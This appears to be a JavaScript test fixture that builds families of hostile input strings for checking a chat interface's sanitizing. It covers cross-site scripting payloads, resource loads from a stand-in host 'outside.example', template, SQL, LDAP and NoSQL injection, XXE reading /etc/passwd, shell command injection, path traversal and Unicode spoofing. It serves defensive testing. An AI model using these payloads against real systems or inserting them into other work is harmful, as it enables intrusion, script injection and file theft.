// Strings that try to become something else than text. Each would set `__hit`, ask for another site, or mislead the eye if it could.

const HIT = "window.__hit=1";
const OUT = "//outside.example/x";

/** Families of strings; a name for each, so that a failure says where it comes from. */
export function families() {
    return {
        script: wrapped([`<script>${HIT}</script>`, `<script src=${OUT}></script>`, `<script type=module>${HIT}</script>`, `</script><script>${HIT}</script>`, `<scr<script>ipt>${HIT}</scr</script>ipt>`, `<SCRIPT>${HIT}</SCRIPT>`, `<script/x>${HIT}</script>`, `<script\n>${HIT}</script\n>`]),
        events: events(),
        svg: wrapped([`<svg onload=${HIT}>`, `<svg><script>${HIT}</script></svg>`, `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:${HIT}>`, `<svg><use href="${OUT}#a"/></svg>`, `<svg><image href="https:${OUT}"/></svg>`, `<svg><foreignObject><img src=x onerror=${HIT}></foreignObject></svg>`, `<svg><a xlink:href="javascript:${HIT}"><text>x</text></a></svg>`, `<svg><style><img src=x onerror=${HIT}></style></svg>`]),
        mathml: wrapped([`<math><mtext><img src=x onerror=${HIT}></mtext></math>`, `<math href="javascript:${HIT}">x</math>`, `<math><mglyph><style><img src=x onerror=${HIT}></style></mglyph></math>`, `<math><annotation-xml encoding="text/html"><script>${HIT}</script></annotation-xml></math>`]),
        frames: wrapped([`<iframe src="javascript:parent.__hit=1">`, `<iframe src="${OUT}">`, `<iframe srcdoc="<script>parent.__hit=1</script>">`, `<iframe srcdoc="&lt;img src=x onerror=parent.__hit=1&gt;">`, `<object data="${OUT}">`, `<object data="data:text/html,<script>parent.__hit=1</script>">`, `<embed src="${OUT}">`, `<frame src="javascript:${HIT}">`, `<portal src="${OUT}">`, `<fencedframe src="${OUT}">`]),
        style: wrapped([`<style>@import "${OUT}";</style>`, `<style>*{background:url(${OUT})}</style>`, `<link rel=stylesheet href="${OUT}">`, `<div style="background:url(${OUT})">x</div>`, `<div style="width:expression(${HIT})">x</div>`, `<style>:host{display:none!important}</style>`, `<link rel=preload as=image href="${OUT}">`, `<link rel=dns-prefetch href="${OUT}">`]),
        loading: wrapped([`<img src="${OUT}">`, `<img srcset="${OUT} 1x">`, `<video poster="${OUT}">`, `<audio src="${OUT}" autoplay>`, `<source src="${OUT}">`, `<track src="${OUT}">`, `<input type=image src="${OUT}">`, `<body background="${OUT}">`, `<meta http-equiv=refresh content="0;url=${OUT}">`, `<base href="${OUT}">`]),
        templates: wrapped([`<template><script>${HIT}</script></template>`, `<template shadowrootmode=open><script>${HIT}</script></template>`, `<slot name=x onslotchange=${HIT}></slot>`, `<handoff-chat service=x server="${OUT}"></handoff-chat>`, "{{constructor.constructor('window.__hit=1')()}}", `\${${HIT}}`, `<%= ${HIT} %>`, `#{${HIT}}`, "[[${__hit=1}]]", `{% raw ${HIT} %}`]),
        addresses: addresses(),
        entities: entities(),
        direction: spread(["\u202e", "\u202d", "\u202a", "\u2066", "\u2067", "\u2068", "\u200f", "\u061c"], ["gpj.exe", "fdp.scr", "safe\u202ctxt", "https://example.com/\u202egnp", "אבג abc دهـ"]),
        invisible: spread(["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u3164"], [`java\u200bscript:${HIT}`, "ad\u200bmin", "", "<\u200bscript>"]),
        controls: Array.from({length: 32}, (_, code) => `a${String.fromCharCode(code)}<img src=x onerror=${HIT}>`),
        surrogates: ["\ud800", "\udc00", "a\ud83d", "\ude00b", "\ud800\ud800", "\udfff\ud800", "\uffff", "\ufffe", "\ufdd0", "\u{10ffff}", "\ud83d<b>", "x\udbff\udfffy"],
        long: ["a", "W", "<b>", "😀", "א", "\u0301", " ", "\n", "﷽", "https://example.com/?", "<img src=x onerror=__hit=1>"].map((part) => part.repeat(Math.ceil(4_000 / part.length)).slice(0, 4_000)),
        combining: spread(["\u0301", "\u0489", "\u20dd", "\u0e47", "\u1ab0"], ["Z", "name.txt", "👨"]).map((text) => text + "\u0301\u0316\u0489".repeat(60)),
        emoji: ["👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🇩🇪🇫", "👍🏿", "☠️", "#️⃣", "🏳️‍🌈", "🫥", "1️⃣0️⃣", "👁️‍🗨️"],
        formats: spread(["%s", "%n", "%x%x%x%x", "%1$s", "{0}", "{name}", "$&", "$`", "\\u003cscript\\u003e", "\\x3cscript\\x3e"], ["", "%s%s%s", "{count}{name}", "\\"]),
        queries: ["' OR '1'='1", "'; DROP TABLE chats;--", "\" OR \"\"=\"", "1;SELECT pg_sleep(9)", "') UNION SELECT 1--", "$where: 1==1", "{\"$gt\":\"\"}", "*)(uid=*))(|(uid=*", "<!ENTITY x SYSTEM \"file:///etc/passwd\">", "`id`", "$(id)", "| id", "; id", "\r\nSet-Cookie: a=b", "\r\n\r\n<html>", "=cmd|'/c calc'!A1"],
        paths: spread(["../", "..\\", "....//", "%2e%2e%2f", "/", "D:\\", "\\\\host\\share\\", "file:///", "./.", "~/"], ["etc/passwd", "windows\\win.ini", ".bashrc", "con", "nul.txt", "a.php\u0000.jpg", "x.html", "x.svg"]),
        names: ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "then", "null", "undefined", "NaN", "true", "0", "-1", "[object Object]", "", " ", "Client", "System", "You", "Kate Lund joined the chat", "data-key", "innerHTML"],
        breakout: spread(["\"", "'", "`", "\">", "'>", "-->", "]]>", "*/", "</div>", "</textarea>", "</title>", "</style>"], [`<img src=x onerror=${HIT}>`, `<svg onload=${HIT}>`, ` autofocus onfocus=${HIT} x=`, `;${HIT};//`]),
    };
}

/** All of them, each once. */
export function hostileStrings() {
    return [...new Set(Object.values(families()).flat())];
}

/** As it is, and in the places where careless code would have put it. */
function wrapped(strings) {
    return strings.flatMap((text) => [text, `">${text}`, `</p>${text}`, `<!--><${text.slice(1)}`]);
}

function spread(starts, ends) {
    return starts.flatMap((start) => ends.map((end) => start + end));
}

function events() {
    const names = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "onpointerenter", "ontoggle", "onanimationstart", "ontransitionend", "onbeforeinput", "onscroll", "onpageshow"];
    const hosts = ["img src=x", "details open", "input autofocus", "body", "marquee", "video src=x", "div tabindex=1 autofocus", "select autofocus"];
    return names.flatMap((name) => hosts.map((host) => `<${host} ${name}=${HIT}>`));
}

function addresses() {
    const schemes = ["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\u0001javascript:", " javascript:", "javascript&colon;", "vbscript:", "data:text/html,", "data:text/html;base64,", "blob:", "file:", "view-source:", "feed:javascript:", "jar:", "livescript:", "filesystem:", "intent://x#Intent;"];
    const rest = [HIT, `//%0a${HIT}`, `<script>${HIT}</script>`, "PHNjcmlwdD5fX2hpdD0xPC9zY3JpcHQ+"];
    const web = ["https://user:secret@outside.example/", "https://example.com@outside.example/", "http://[::1", "https://", "http://%00/", `https://outside.example/"onmouseover="${HIT}`, `https://outside.example/'><img src=x onerror=${HIT}>`, "https://xn--80ak6aa92e.com/", "HTTPS:/\\outside.example", "//outside.example/x", "https://example.com/%0d%0aSet-Cookie:a=b", "http://outside.example/\u2028x"];
    return [...spread(schemes, rest), ...web];
}

function entities() {
    const marks = ["&lt;", "&#60;", "&#x3c;", "&#0000060;", "&LT;", "%3C", "\\u003c", "\\x3c", "\uff1c", "+ADw-", "&amp;lt;", "\u00bc"];
    return marks.flatMap((mark) => [`${mark}script>${HIT}${mark}/script>`, `${mark}img src=x onerror=${HIT}>`, `${mark}svg/onload=${HIT}>`]);
}
